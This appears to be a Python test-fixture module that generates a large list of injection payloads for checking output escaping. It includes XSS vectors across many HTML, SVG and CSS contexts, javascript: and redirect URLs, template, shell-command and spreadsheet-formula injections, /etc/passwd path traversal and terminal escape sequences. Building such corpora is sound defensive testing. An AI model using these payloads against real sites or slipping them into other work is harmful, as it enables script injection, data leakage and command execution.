"""Texts that would run, load, lead away or deceive wherever a page, a terminal or a parser took them for its own.

Made from families, so that each family meets each way out of where a text may stand. All set ``window.__pwned``, ask
for something on example.org or change what is drawn.
"""

from __future__ import annotations

import itertools

_ACT = "window.__pwned=1"
_OUT = "//example.org/x"
_WAYS_OUT = (
    "", '">', "'>", "-->", "]]>", "</title>", "</style>", "</textarea>", "</pre></main></body>", "</svg>", "</script>",
    '"}]}</script>', "</text></svg>", "</td></table>", "</noscript>",
)  # fmt: skip
_SCRIPTS = (
    f"<script>{_ACT}</script>", f"<ScRiPt/x>{_ACT}</sCrIpT >", f"<img src=x onerror={_ACT}>", f"<svg/onload={_ACT}>",
    f'<a href="javascript:{_ACT}" onfocus={_ACT} tabindex=1 autofocus>x</a>',
)  # fmt: skip
_HANDLERS = (
    "<body onload=@>", "<body onpageshow=@>", "<input autofocus onfocus=@>", "<details open ontoggle=@>",
    "<video><source onerror=@></video>", "<audio src=x onerror=@>", "<marquee onstart=@>", "<iframe onload=@></iframe>",
    "<p style=animation:x onanimationstart=@>", "<object data=x onerror=@></object>", "<select autofocus onfocus=@>",
    "<b onmouseover=@>x</b>", "<image src=x onerror=@>", "<img src=x onerror\n=\n@>", "<img/src/onerror=@>",
    '<img src="x`onerror=@`">', "<x onclick=@ tabindex=1 onfocus=@ id=x>", "<style onload=@></style>",
)  # fmt: skip
_ATTRIBUTES = (
    '" onmouseover="@', "' onmouseover='@", "` onmouseover=`@",
    '" autofocus onfocus="@" x="', "\" style=\"x:expression(@)",
    '"/><set attributeName=onload to=@>', '" href="javascript:@', "' title='x' onfocus='@",
)  # fmt: skip
_SVG = (
    "<svg><script>@</script></svg>", "<svg><animate onbegin=@ attributeName=x dur=1s>", "<svg><set onend=@ dur=1ms>",
    '<svg><a xlink:href="javascript:@"><text y=9>x</text></a></svg>', "<svg><use href=data:image/svg+xml,x></svg>",
    f"<svg><image href={_OUT} /></svg>", "<svg><foreignObject><iframe srcdoc='<script>parent.@</script>'>",
    "<math><mtext><script>@</script></mtext></math>",
)  # fmt: skip
_STYLE = (
    f"<style>@import url({_OUT})</style>", f"</style><style>*{{background:url({_OUT})}}</style>",
    f"}}body{{background:url({_OUT})}}", "</style><style>body{display:none}</style>",
    "<b style='position:fixed;inset:0;background:red'>x</b>", f"<link rel=stylesheet href={_OUT}>",
    f"<style>@font-face{{font-family:x;src:url({_OUT})}}*{{font-family:x}}</style>", "url('javascript:1')",
)  # fmt: skip
_ADDRESSES = (
    "javascript:@", "JaVaScRiPt:@", "java\tscript:@", "data:text/html,<script>@</script>", "vbscript:@",
    "<a href=javascript:@>x</a>", "[x](javascript:@)", "<iframe src=javascript:parent.@></iframe>",
    f"<iframe src=https:{_OUT}></iframe>", f"<base href={_OUT}>", f"<form action={_OUT}><button autofocus>",
    f"<meta http-equiv=refresh content=0;url={_OUT}>", f"<link rel=preconnect href={_OUT}>",
    f"<link rel=dns-prefetch href={_OUT}>", f"<link rel=icon href={_OUT}>", f"<embed src={_OUT}>",
    f"<object data={_OUT}></object>", f"![x](https:{_OUT})", f"<script src={_OUT}></script>", f"<img srcset={_OUT}>",
    f"<video poster={_OUT}>", f"<body background={_OUT}>", f"<a ping={_OUT} href=#>x</a>",
    "../../../../etc/passwd", "file:///etc/passwd", "//example.org",
)  # fmt: skip
_TEMPLATES = (
    "{{constructor.constructor('@')()}}", "${@}", "#{@}", "<%= @ %>", "{title}{body}{style}", "%s%n%(title)s",
    "{0.__class__.__mro__}", "{{7*7}}", "$(touch pwned)", "`touch pwned`", "; touch pwned", "| cat", "__proto__",
    "constructor", "toString", "=HYPERLINK(\"https://example.org\")", "@SUM(1)", "<?php @ ?>", "<!--#exec cmd=@-->",
)  # fmt: skip
_ENTITIES = (
    "&lt;script&gt;@&lt;/script&gt;", "&#60;script&#62;@&#60;/script&#62;", "&#x3c;img src=x onerror=@&#x3e;",
    "&amp;lt;script&amp;gt;", "&lt", "&#0;", "&#xD800;", "&quot; onmouseover=&quot;@", "\\u003cscript\\u003e@",
    "%3Cscript%3E@%3C/script%3E", "+ADw-script+AD4-@", "\\x3cscript\\x3e", "&NewLine;&Tab;", "<![CDATA[<script>@]]>",
    "＜script＞@＜/script＞",
)  # fmt: skip
_CHARACTERS = (
    "<scr\x00ipt>@</scr\x00ipt>", "\x00<script>@</script>", "<\x00img src=x onerror=@>",
    "\x1b]0;owned\x07\x1b[2J\x1b[31m",
    "\x9b2J", "\u202eevil\u202c", "\u2066left\u2069", "\u200b\u200d\ufeff", "line\u2028line\u2029line", "\r\n\r\n<p>",
    "\ud800", "\udfff<script>@</script>", "\ufffe\uffff", "\x7f\x08\x08", "Z\u0351\u032e" * 20, "W" * 600, "﷽" * 40,
    "\U000e0041\U000e0042", "\ufeff<script>@</script>",
)  # fmt: skip
_JSON = (
    '"}</script><script>@</script>', '\\"}];@;[{\\"', '{"__proto__":{"x":1}}', "</script><!--<script>@",
    '\\u0022,"x":"',
    "null", "NaN", "-Infinity", "1e999", "[[[[", '"\\',
)  # fmt: skip
PAYLOADS = list(
    dict.fromkeys(
        text.replace("@", _ACT)
        for text in (
            *(way + script for way, script in itertools.product(_WAYS_OUT, _SCRIPTS)),
            *_HANDLERS, *_ATTRIBUTES, *_SVG, *_STYLE, *_ADDRESSES, *_TEMPLATES, *_ENTITIES, *_CHARACTERS, *_JSON,
        )
    )
)  # fmt: skip
WRITABLE = [text for text in PAYLOADS if not any("\ud800" <= char <= "\udfff" for char in text)]
"""Without halves of characters, which no file in UTF-8 can hold."""
